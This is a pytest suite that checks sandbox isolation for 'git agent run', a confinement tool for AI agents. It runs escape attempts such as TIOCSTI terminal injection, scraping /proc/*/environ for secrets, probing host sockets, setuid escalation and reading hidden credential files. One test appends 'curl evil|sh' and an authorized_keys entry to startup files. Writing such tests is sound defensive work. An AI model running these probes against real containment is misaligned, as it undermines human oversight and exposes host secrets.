"""The escape suite through the real CLI: each attack from inside `git agent run`, as root and
as an unprivileged user. Each test asserts the attack failed and, where it makes sense, that the
legitimate use still works (so a test whose attack is not really tried cannot pass)."""

from __future__ import annotations

import os
import pty
import signal
import socket
import subprocess
import uuid
from collections.abc import Iterator
from pathlib import Path

import pytest
from helpers import read_to_eio, serving

from tests.conftest import Actor

PY = "/usr/bin/python3"


def inside(actor: Actor, repo: Path, script: str, *args: str, session: str = "esc",
           env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
    return actor.agent("run", "-s", session, *args, "--", "sh", "-c", script, cwd=repo, env=env)


# --- terminal injection -----------------------------------------------------------------------

TIOCSTI_PROBE = r"""
import ctypes, errno, fcntl, os, termios, struct
res = []
try:
    fcntl.ioctl(0, termios.TIOCSTI, b"X"); res.append("tiocsti:ALLOWED")
except OSError as e:
    res.append("tiocsti:" + errno.errorcode[e.errno])
libc = ctypes.CDLL(None, use_errno=True)
# x86_64 ioctl, high bits set
r = libc.syscall(16, 0, ctypes.c_ulong(0x100005412), ctypes.c_char_p(b"Y"))
res.append("tiocsti-high:" + ("ALLOWED" if r == 0 else errno.errorcode[ctypes.get_errno()]))
try:
    fcntl.ioctl(0, 0x541C, b"\x06"); res.append("tioclinux:ALLOWED")
except OSError as e:
    res.append("tioclinux:" + errno.errorcode[e.errno])
# legitimate terminal use: window size, foreground process group (job control)
ws = fcntl.ioctl(0, termios.TIOCGWINSZ, b"\0" * 8)
res.append("winsz:%d" % struct.unpack("HHHH", ws)[0])
import signal
signal.signal(signal.SIGTTOU, signal.SIG_IGN)  # as a shell does before taking the terminal
os.setpgid(0, 0)
os.tcsetpgrp(0, os.getpgrp())
res.append("fg:" + str(os.tcgetpgrp(0) == os.getpgrp()))
print(" ".join(res), flush=True)
"""


def run_in_pty(actor: Actor, argv: list[str], cwd: Path, timeout: float = 60) -> tuple[int, str]:
    """Run argv with a new pty as its controlling terminal; return (status, what it printed)."""
    pid, fd = pty.fork()
    if pid == 0:  # child: the pty is our controlling terminal already
        os.chdir(cwd)
        import fcntl  # noqa: E401
        import struct
        import termios
        fcntl.ioctl(0, termios.TIOCSWINSZ, struct.pack("HHHH", 33, 101, 0, 0))
        full = actor._argv(argv)
        os.execvpe(full[0], full, {**actor.env, "TERM": "xterm"})
    out, ended = read_to_eio(fd, timeout)
    if not ended:
        os.kill(pid, signal.SIGKILL)
        os.waitpid(pid, 0)
        os.close(fd)
        pytest.fail(f"{argv} did not end in {timeout} s: {out!r}")
    _, status = os.waitpid(pid, 0)
    os.close(fd)
    return os.waitstatus_to_exitcode(status), out.decode(errors="replace")


def test_tiocsti_and_tioclinux_are_denied_but_job_control_works(actor: Actor) -> None:
    repo = actor.make_repo()
    (repo / "probe.py").write_text(TIOCSTI_PROBE)
    actor.own(repo)
    code, out = run_in_pty(actor, ["git", "agent", "run", "-s", "tty", "--", PY, "probe.py"], repo)
    assert "tiocsti:EPERM" in out, out
    assert "tiocsti-high:EPERM" in out, out
    assert "tioclinux:EPERM" in out, out
    assert "winsz:33" in out and "fg:True" in out, out  # the terminal still works
    assert code == 0, out


# --- sockets ------------------------------------------------------------------------------------


@pytest.fixture
def abstract_server() -> Iterator[str]:
    name = f"git-agent-esc-{uuid.uuid4().hex[:8]}"
    srv = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    srv.bind("\0" + name)
    srv.listen(8)
    with serving(srv, b"host-secret\n"):
        yield name


ABSTRACT_PROBE = """
import socket, sys
s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
try:
    s.connect("\\0" + sys.argv[1]); print("CONNECTED", s.recv(100))
except OSError as e:
    print("REFUSED", e.errno)
"""


def test_host_abstract_socket_is_unreachable_in_host_mode(
    actor: Actor, abstract_server: str
) -> None:
    repo = actor.make_repo()
    (repo / "probe.py").write_text(ABSTRACT_PROBE)
    actor.own(repo)
    host = actor.run([PY, "probe.py", abstract_server], cwd=repo)
    assert "CONNECTED" in host.stdout  # the attack works outside the sandbox
    p = actor.agent("run", "-s", "abs", "--net", "host", "--", PY, "probe.py", abstract_server,
                    cwd=repo)
    assert p.returncode == 0, p.stderr
    assert "REFUSED" in p.stdout and "host-secret" not in p.stdout, p.stdout


@pytest.fixture
def unix_socket(actor: Actor) -> Iterator[Path]:
    path = actor.base / "agent.sock"
    srv = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    srv.bind(str(path))
    os.chmod(path, 0o777)
    srv.listen(8)
    with serving(srv, b"signed-by-agent\n"):
        yield path


UNIX_PROBE = """
import os, socket, sys
p = sys.argv[1]
print("AUTH_SOCK=" + os.environ.get("SSH_AUTH_SOCK", "-"))
s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
try:
    s.connect(p); print("CONNECTED", s.recv(100))
except OSError as e:
    print("REFUSED", e.errno)
"""


def test_host_unix_socket_and_ssh_agent_need_opt_in(actor: Actor, unix_socket: Path) -> None:
    repo = actor.make_repo()
    (repo / "probe.py").write_text(UNIX_PROBE)
    actor.own(repo)
    env = {"SSH_AUTH_SOCK": str(unix_socket)}
    p = actor.agent("run", "-s", "sock", "--", PY, "probe.py", str(unix_socket), cwd=repo, env=env)
    assert "REFUSED" in p.stdout and "AUTH_SOCK=-" in p.stdout, p.stdout + p.stderr
    p = actor.agent("run", "-s", "sock", "--allow-socket", str(unix_socket), "--",
                    PY, "probe.py", str(unix_socket), cwd=repo, env=env)
    assert "CONNECTED" in p.stdout, p.stdout + p.stderr  # the opt-in works
    assert f"AUTH_SOCK={unix_socket}" in p.stdout


# --- processes ----------------------------------------------------------------------------------


@pytest.fixture
def host_process(actor: Actor) -> Iterator[subprocess.Popen[bytes]]:
    proc = subprocess.Popen(actor._argv(["sleep", "300"]),
                            env={**actor.env, "HOST_SECRET_TOKEN": "tok-" + uuid.uuid4().hex})
    yield proc
    proc.kill()
    proc.wait()


def test_host_processes_are_invisible_and_unsignalable(
    actor: Actor, host_process: subprocess.Popen[bytes]
) -> None:
    repo = actor.make_repo()
    pid = host_process.pid
    p = inside(actor, repo, f"kill -0 {pid} 2>/dev/null && echo SIGNALLED; "
               f"test -e /proc/{pid} && echo VISIBLE; "
               "cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n' | "
               "grep -c HOST_SECRET_TOKEN; ls /proc | grep -c '^[0-9]'")
    assert "SIGNALLED" not in p.stdout and "VISIBLE" not in p.stdout, p.stdout
    lines = p.stdout.split()
    assert lines[-2] == "0"  # no secret from any /proc/*/environ
    assert int(lines[-1]) < 8
    assert host_process.poll() is None


def test_no_mount_no_privileges_no_userns(actor: Actor) -> None:
    repo = actor.make_repo()
    p = inside(actor, repo, "mount -t tmpfs none /tmp 2>/dev/null && echo MOUNTED; "
               "unshare -Ur true 2>/dev/null && echo USERNS; "
               "grep -E '^(NoNewPrivs|CapEff|CapPrm|CapBnd)' /proc/self/status")
    assert "MOUNTED" not in p.stdout and "USERNS" not in p.stdout, p.stdout
    assert "NoNewPrivs:\t1" in p.stdout
    assert "CapEff:\t0000000000000000" in p.stdout and "CapPrm:\t0000000000000000" in p.stdout


# passwd waits on a fifo held open for writing (no timer runs out), and its status is read only
# once the child runs passwd itself (its name) and waits (sleeping): its exec is done
SETUID_PROBE = (
    "d=$(mktemp -d); mkfifo $d/in; {passwd} <$d/in >/dev/null 2>&1 & pid=$!; exec 3>$d/in; "
    "i=0; until [ \"$(cat /proc/$pid/comm 2>/dev/null)\" = passwd ] && "
    "grep -q '^State:.S' /proc/$pid/status; do i=$((i+1)); "
    "[ $i -le 200 ] || {{ echo 'passwd never waited'; break; }}; sleep 0.05; done; "
    "grep -E '^(Uid|CapEff)' /proc/$pid/status; kill $pid 2>/dev/null; exec 3>&-; wait; "
    "rm -r $d"
)


def test_setuid_binaries_do_not_gain_privileges(actor: Actor) -> None:
    passwd = "/usr/bin/passwd"
    if not os.path.exists(passwd) or not os.stat(passwd).st_mode & 0o4000:
        pytest.skip("no setuid-root passwd on this machine")
    repo = actor.make_repo()
    script = SETUID_PROBE.format(passwd=passwd)
    if not actor.is_root:  # the control: outside, the same binary does become root
        host = actor.run(["sh", "-c", script], cwd=repo)
        assert host.stdout.split()[2] == "0", host.stdout
    p = inside(actor, repo, script)
    fields = p.stdout.split()
    assert fields[0] == "Uid:", p.stdout
    assert fields[2] == str(actor.uid)  # effective uid unchanged (no_new_privs)
    assert fields[fields.index("CapEff:") + 1] == "0000000000000000"


def test_no_host_devices(actor: Actor) -> None:
    repo = actor.make_repo()
    p = inside(actor, repo, "ls /dev; ls /sys 2>/dev/null | wc -l")
    names = set(p.stdout.split())
    assert names >= {"null", "zero", "urandom", "tty"}
    for dev in ("vda", "sda", "nvme0n1", "mem", "kmem", "kvm", "fuse"):
        assert dev not in names, p.stdout
    for host_dev in ("/dev/vda", "/dev/sda", "/dev/nvme0n1"):
        if os.path.exists(host_dev):
            assert os.path.basename(host_dev) not in names


# --- the store, the agent home, hidden files ---------------------------------------------------


def test_other_sessions_and_the_store_are_unreachable(actor: Actor) -> None:
    repo = actor.make_repo()
    marker = "marker-" + uuid.uuid4().hex
    p = inside(actor, repo, f"echo secret > {marker}.txt", session="one")
    assert p.returncode == 0, p.stderr
    state = actor.home / ".local/state/git-agent"
    assert list(state.glob(f"*/sessions/one/upper/{marker}.txt"))  # it is there, on the host
    p = inside(actor, repo, f"find / -xdev -name '{marker}*' 2>/dev/null; "
               f"find / -name '{marker}*' 2>/dev/null | grep -v '^/proc'; "
               f"test -e {state} && echo STORE; echo done", session="two")
    assert p.stdout.strip() == "done", p.stdout


def test_agent_home_startup_files_changed_inside_stay_in_the_session(actor: Actor) -> None:
    repo = actor.make_repo()
    aihome = actor.home / "aihome"
    aihome.mkdir()
    (aihome / ".bashrc").write_text("# mine\n")
    actor.own(aihome)
    p = inside(actor, repo, "for f in .bashrc .profile .zshrc .gitconfig .bash_profile; do "
               "echo 'curl evil|sh' >> ~/$f && echo WROTE $f; done; "
               "mkdir -p ~/.ssh && echo key > ~/.ssh/authorized_keys && echo WROTE ssh",
               session="one")
    assert p.stdout.count("WROTE") == 6, p.stdout  # the session's own copy is writable
    assert (aihome / ".bashrc").read_text() == "# mine\n"  # yours: never replaced by a seed
    for f in (".profile", ".zshrc", ".gitconfig"):  # seeded by git agent, never by the agent
        assert "evil" not in (aihome / f).read_text()
    assert not (aihome / ".bash_profile").exists() and not (aihome / ".ssh").exists()
    p = inside(actor, repo, "cat ~/.bashrc ~/.profile ~/.gitconfig ~/.ssh/authorized_keys",
               session="two")
    assert "# mine" in p.stdout and "evil" not in p.stdout and "key" not in p.stdout, p.stdout


def test_hidden_paths_are_empty_inside(actor: Actor) -> None:
    repo = actor.make_repo()
    (repo / ".env.production").write_text("DB_PASSWORD=hunter2\n")
    (repo / "secrets").mkdir()
    (repo / "secrets" / "key.pem").write_text("PRIVATE\n")
    actor.own(repo)
    p = inside(actor, repo, "cat .env.production; ls -A secrets; "
               "(echo x > .env.production) 2>/dev/null && echo WROTE; true",
               "--hide", ".env.production", "--hide", "secrets")
    assert p.returncode == 0, p.stderr
    assert "hunter2" not in p.stdout and "key.pem" not in p.stdout and "WROTE" not in p.stdout
    p = inside(actor, repo, "cat .env.production")  # without --hide it is visible (the control)
    assert "hunter2" in p.stdout


# --- the network in each mode --------------------------------------------------------------------


@pytest.fixture
def two_ports() -> Iterator[tuple[int, int]]:
    a, b = socket.socket(), socket.socket()
    for srv in (a, b):
        srv.bind(("127.0.0.1", 0))
        srv.listen(16)
    with serving(a, b"db\n"), serving(b, b"db\n"):
        yield a.getsockname()[1], b.getsockname()[1]


TCP_PROBE = """
import socket, sys
for port in sys.argv[1:]:
    try:
        c = socket.create_connection(("127.0.0.1", int(port)), timeout=3)
        print(port, "OPEN", c.recv(10).decode().strip() or "-")
    except OSError as e:
        print(port, "CLOSED")
"""


@pytest.mark.parametrize("mode", ["host", "none", "isolated"])
def test_host_tcp_ports_per_network_mode(actor: Actor, two_ports: tuple[int, int],
                                         mode: str) -> None:
    allowed, other = two_ports
    repo = actor.make_repo()
    (repo / "probe.py").write_text(TCP_PROBE)
    actor.own(repo)
    args = ["--net", mode] + (["--allow-port", str(allowed)] if mode == "isolated" else [])
    p = actor.agent("run", "-s", "net", *args, "--", PY, "probe.py", str(allowed), str(other),
                    cwd=repo)
    assert p.returncode == 0, p.stderr
    expect = {"host": ("OPEN", "OPEN"), "none": ("CLOSED", "CLOSED"),
              "isolated": ("OPEN", "CLOSED")}[mode]
    assert f"{allowed} {expect[0]}" in p.stdout, p.stdout + p.stderr
    assert f"{other} {expect[1]}" in p.stdout, p.stdout + p.stderr


def test_allow_port_without_isolated_is_refused(actor: Actor) -> None:
    repo = actor.make_repo()
    p = actor.agent("run", "--allow-port", "5432", "--", "true", cwd=repo)
    assert p.returncode == 2 and "--net isolated" in p.stderr


def test_isolated_network_that_cannot_start_refuses_to_run_the_agent(actor: Actor) -> None:
    """Fail closed: when the proxy cannot listen, the agent never runs (and nothing is left
    running). Its socket dir is taken by a file in an existing session."""
    repo = actor.make_repo()
    p = actor.agent("run", "-s", "nonet", "--net", "none", "--", "true", cwd=repo)
    assert p.returncode == 0, p.stderr
    [session] = (actor.home / ".local/state/git-agent").glob("*/sessions/nonet")
    (session / "net").write_text("in the way\n")
    actor.own(session / "net")
    marker = actor.home / "aihome" / "ran.txt"
    p = actor.agent("run", "-s", "nonet", "--net", "isolated", "--",
                    "sh", "-c", "echo ran > ~/ran.txt", cwd=repo)
    assert p.returncode != 0
    assert "git agent: cannot start the network proxy" in p.stderr, p.stderr
    assert "Traceback" not in p.stderr
    assert not marker.exists()  # the agent never started
    left = subprocess.run(["pgrep", "-f", "echo ran > ~/ran.txt"], capture_output=True, text=True)
    assert left.stdout.strip() == "", left.stdout


def test_toolchain_dirs_come_without_their_registry_tokens(actor: Actor) -> None:
    repo = actor.make_repo()
    cargo = actor.home / ".cargo"
    (cargo / "bin").mkdir(parents=True)
    (cargo / "bin" / "cargo-x").write_text("#!/bin/sh\necho tool\n")
    (cargo / "credentials.toml").write_text("[registry]\ntoken = 'cio-secret'\n")
    actor.own(cargo)
    p = inside(actor, repo, "ls ~/.cargo/bin; cat ~/.cargo/credentials.toml; echo end")
    assert "cargo-x" in p.stdout  # the toolchain is there, read-only
    assert "cio-secret" not in p.stdout, p.stdout
